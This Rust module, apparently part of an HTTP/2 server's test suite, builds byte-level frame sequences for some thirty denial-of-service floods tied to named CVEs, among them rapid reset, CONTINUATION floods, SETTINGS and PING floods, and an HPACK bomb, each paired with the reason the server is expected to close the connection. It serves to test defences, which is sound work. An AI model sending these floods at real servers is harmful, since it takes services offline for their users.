//! Attacks by frames of HTTP/2: what is sent on a connection, over and over.

/// `PRI * HTTP/2.0` and empty SETTINGS.
pub(crate) const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0";

const DATA: u8 = 0;
pub(crate) const HEADERS: u8 = 1;
const PRIORITY: u8 = 2;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
pub(crate) const GOAWAY: u8 = 7;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;
const UNKNOWN: u8 = 0xFA;

const END_STREAM: u8 = 1;
const ACK: u8 = 1;
const END_HEADERS: u8 = 4;
const PADDED: u8 = 8;

/// GET /held http a: no response comes for long.
const GET_HELD: &[u8] = b"\x82\x04\x05/held\x86\x41\x01a";

/// GET /piece http a.
const GET_PIECE: &[u8] = b"\x82\x04\x06/piece\x86\x41\x01a";

/// GET / http a.
const GET: &[u8] = &[0x82, 0x84, 0x86, 0x41, 1, b'a'];

/// POST /held http a.
const POST_HELD: &[u8] = b"\x83\x04\x05/held\x86\x41\x01a";

/// One frame.
pub(crate) fn frame((kind, flags): (u8, u8), stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap().to_be_bytes();
    let mut bytes = vec![length[1], length[2], length[3], kind, flags];
    bytes.extend_from_slice(&stream.to_be_bytes());
    bytes.extend_from_slice(payload);
    bytes
}

/// What an attack sends: once at the beginning, and then for each step a few frames on a new stream.
pub(crate) struct Flood {
    pub(crate) name: &'static str,
    /// What is known of it by this number.
    pub(crate) known: &'static str,
    /// The reason the connection has to end for; empty if nothing needs to end it.
    pub(crate) reason: &'static str,
    pub(crate) begin: fn() -> Vec<u8>,
    pub(crate) step: fn(u32) -> Vec<u8>,
    /// Whether what the server sends is read.
    pub(crate) reading: Reading,
}

/// Whether an attacker reads what comes.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Reading {
    All,
    Nothing,
}

fn nothing() -> Vec<u8> {
    Vec::new()
}

/// A request that stays open on stream 1.
fn open() -> Vec<u8> {
    frame((HEADERS, END_HEADERS), 1, POST_HELD)
}

/// A request that was answered on stream 1.
fn closed() -> Vec<u8> {
    let begun = frame((HEADERS, END_HEADERS | END_STREAM), 1, GET_HELD);
    [begun, frame((RST_STREAM, 0), 1, &[0, 0, 0, 8])].concat()
}

fn get_held(stream: u32) -> Vec<u8> {
    frame((HEADERS, END_HEADERS | END_STREAM), stream, GET_HELD)
}

fn post_held(stream: u32) -> Vec<u8> {
    frame((HEADERS, END_HEADERS), stream, POST_HELD)
}

fn then(first: Vec<u8>, kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    [first, frame((kind, flags), stream, payload)].concat()
}

/// A header of 3 KB that goes into the table of HPACK.
fn stored() -> Vec<u8> {
    let header = [&b"\x40\x01x\x7F\xB9\x16"[..], &[b'y'; 3_000]].concat();
    frame((HEADERS, END_STREAM | END_HEADERS), 1, &[GET, &header].concat())
}

/// All floods.
#[rustfmt::skip]
pub(crate) const FLOODS: &[Flood] = &[
    Flood {
        name: "rapid reset", known: "CVE-2023-44487", reason: "flood_resets", begin: nothing,
        step: |at| then(get_held(at), RST_STREAM, 0, at, &[0, 0, 0, 8]), reading: Reading::All,
    },
    Flood {
        name: "provoked resets: WINDOW_UPDATE of zero", known: "CVE-2025-8671",
        reason: "flood_provoked_resets", begin: nothing,
        step: |at| then(get_held(at), WINDOW_UPDATE, 0, at, &[0; 4]), reading: Reading::All,
    },
    Flood {
        name: "provoked resets: window over 2^31", known: "CVE-2025-8671",
        reason: "flood_provoked_resets", begin: nothing,
        step: |at| then(get_held(at), WINDOW_UPDATE, 0, at, &[0x7F, 0xFF, 0xFF, 0xFF]),
        reading: Reading::All,
    },
    Flood {
        name: "provoked resets: DATA after the end", known: "CVE-2025-8671",
        reason: "flood_provoked_resets", begin: nothing,
        step: |at| then(get_held(at), DATA, 0, at, b"x"), reading: Reading::All,
    },
    Flood {
        name: "provoked resets: HEADERS after the end", known: "CVE-2025-8671",
        reason: "flood_provoked_resets", begin: nothing,
        step: |at| then(get_held(at), HEADERS, END_HEADERS | END_STREAM, at, GET_HELD),
        reading: Reading::All,
    },
    Flood {
        name: "provoked resets: PRIORITY of itself", known: "CVE-2025-8671",
        reason: "flood_provoked_resets", begin: nothing,
        step: |at| then(get_held(at), PRIORITY, 0, at, &[&at.to_be_bytes()[..], &[1]].concat()),
        reading: Reading::All,
    },
    Flood {
        name: "provoked resets: PRIORITY of four bytes", known: "CVE-2025-8671",
        reason: "flood_provoked_resets", begin: nothing,
        step: |at| then(get_held(at), PRIORITY, 0, at, &[0; 4]), reading: Reading::All,
    },
    Flood {
        name: "provoked resets: body longer than its length", known: "CVE-2025-8671",
        reason: "flood_provoked_resets", begin: nothing,
        step: |at| {
            let head = [POST_HELD, b"\x0f\x0d\x011"].concat();
            then(frame((HEADERS, END_HEADERS), at, &head), DATA, END_STREAM, at, b"xx")
        },
        reading: Reading::All,
    },
    Flood {
        name: "provoked resets: requests without a path", known: "CVE-2025-8671",
        reason: "flood_provoked_resets", begin: nothing,
        step: |at| frame((HEADERS, END_HEADERS | END_STREAM), at, &[0x82, 0x86, 0x41, 1, b'a']),
        reading: Reading::All,
    },
    Flood {
        name: "RST_STREAM on closed streams", known: "", reason: "flood_stray", begin: closed,
        step: |_| frame((RST_STREAM, 0), 1, &[0, 0, 0, 8]), reading: Reading::All,
    },
    Flood {
        name: "CONTINUATION", known: "CVE-2024-27316", reason: "flood_continuations",
        begin: || frame((HEADERS, END_STREAM), 1, GET),
        step: |_| frame((CONTINUATION, 0), 1, b"\x00\x01x\x01y"), reading: Reading::All,
    },
    Flood {
        name: "CONTINUATION, empty", known: "CVE-2024-27316", reason: "flood_continuations",
        begin: || frame((HEADERS, END_STREAM), 1, GET),
        step: |_| frame((CONTINUATION, 0), 1, b""), reading: Reading::All,
    },
    Flood {
        name: "SETTINGS", known: "CVE-2019-9515", reason: "flood_settings", begin: nothing,
        step: |_| frame((SETTINGS, 0), 0, b""), reading: Reading::All,
    },
    Flood {
        name: "SETTINGS of many values", known: "CVE-2019-9515", reason: "flood_settings",
        begin: nothing,
        step: |at| {
            let window = (at % 2) as u8;
            frame((SETTINGS, 0), 0, &[0, 4, 0, 1, 0, window].repeat(600))
        },
        reading: Reading::All,
    },
    Flood {
        name: "SETTINGS, acknowledged", known: "", reason: "flood_settings", begin: nothing,
        step: |_| frame((SETTINGS, ACK), 0, b""), reading: Reading::All,
    },
    Flood {
        name: "PING", known: "CVE-2019-9512", reason: "flood_pings", begin: nothing,
        step: |_| frame((PING, 0), 0, &[0; 8]), reading: Reading::All,
    },
    Flood {
        name: "PING, responses not read", known: "CVE-2019-9512", reason: "flood_pings",
        begin: nothing, step: |_| frame((PING, 0), 0, &[0; 8]), reading: Reading::Nothing,
    },
    Flood {
        name: "PING, acknowledged", known: "", reason: "flood_stray", begin: nothing,
        step: |_| frame((PING, ACK), 0, &[0; 8]), reading: Reading::All,
    },
    Flood {
        name: "PRIORITY", known: "CVE-2019-9513", reason: "flood_priorities", begin: nothing,
        step: |at| frame((PRIORITY, 0), at + 2, &[0, 0, 0, 0, 1]), reading: Reading::All,
    },
    Flood {
        name: "unknown frames", known: "", reason: "flood_priorities", begin: nothing,
        step: |_| frame((UNKNOWN, 0), 0, b"anything"), reading: Reading::All,
    },
    Flood {
        name: "GOAWAY", known: "", reason: "flood_stray", begin: nothing,
        step: |_| frame((GOAWAY, 0), 0, &[0; 8]), reading: Reading::All,
    },
    Flood {
        name: "empty DATA", known: "CVE-2019-9518", reason: "flood_empty", begin: open,
        step: |_| frame((DATA, 0), 1, b""), reading: Reading::All,
    },
    Flood {
        name: "DATA of padding alone", known: "CVE-2019-9518", reason: "flood_empty", begin: open,
        step: |_| frame((DATA, PADDED), 1, &[7, 0, 0, 0, 0, 0, 0, 0]), reading: Reading::All,
    },
    Flood {
        name: "WINDOW_UPDATE of one", known: "", reason: "flood_windows", begin: nothing,
        step: |_| frame((WINDOW_UPDATE, 0), 0, &[0, 0, 0, 1]), reading: Reading::All,
    },
    Flood {
        name: "WINDOW_UPDATE on closed streams", known: "", reason: "flood_windows", begin: closed,
        step: |_| frame((WINDOW_UPDATE, 0), 1, &[0, 0, 0, 1]), reading: Reading::All,
    },
    Flood {
        name: "DATA on closed streams", known: "CVE-2025-8671", reason: "flood_stray", begin: closed,
        step: |_| frame((DATA, 0), 1, b"x"), reading: Reading::All,
    },
    Flood {
        name: "HEADERS on closed streams", known: "", reason: "flood_stray", begin: closed,
        step: |_| frame((HEADERS, END_HEADERS | END_STREAM), 1, GET_HELD), reading: Reading::All,
    },
    Flood {
        name: "more streams than allowed", known: "CVE-2019-9514", reason: "flood_provoked_resets",
        begin: || frame((SETTINGS, ACK), 0, b""), step: post_held, reading: Reading::All,
    },
    Flood {
        name: "HPACK bomb", known: "CVE-2016-6581", reason: "", begin: stored,
        step: |at| {
            let block = [GET, &[0xBE; 10_000]].concat();
            frame((HEADERS, END_HEADERS | END_STREAM), at + 2, &block)
        },
        reading: Reading::All,
    },
    Flood {
        name: "HPACK table resized", known: "", reason: "", begin: nothing,
        step: |at| {
            // As often as a block may, to nothing and back.
            let block = [&b"\x20\x3f\xe1\x1f"[..], GET].concat();
            frame((HEADERS, END_HEADERS | END_STREAM), at, &block)
        },
        reading: Reading::All,
    },
];

/// SETTINGS with a window of zero for each stream, and a hundred requests for a resource of 32 KiB.
pub(crate) fn shut_windows() -> Vec<u8> {
    let settings = frame((SETTINGS, 0), 0, &[0, 4, 0, 0, 0, 0]);
    let requests =
        (1..200).step_by(2).map(|at| frame((HEADERS, END_HEADERS | END_STREAM), at, GET_PIECE));
    let preface = &PREFACE[..24];
    [&[preface.to_vec(), settings][..], &requests.collect::<Vec<_>>()].concat().concat()
}
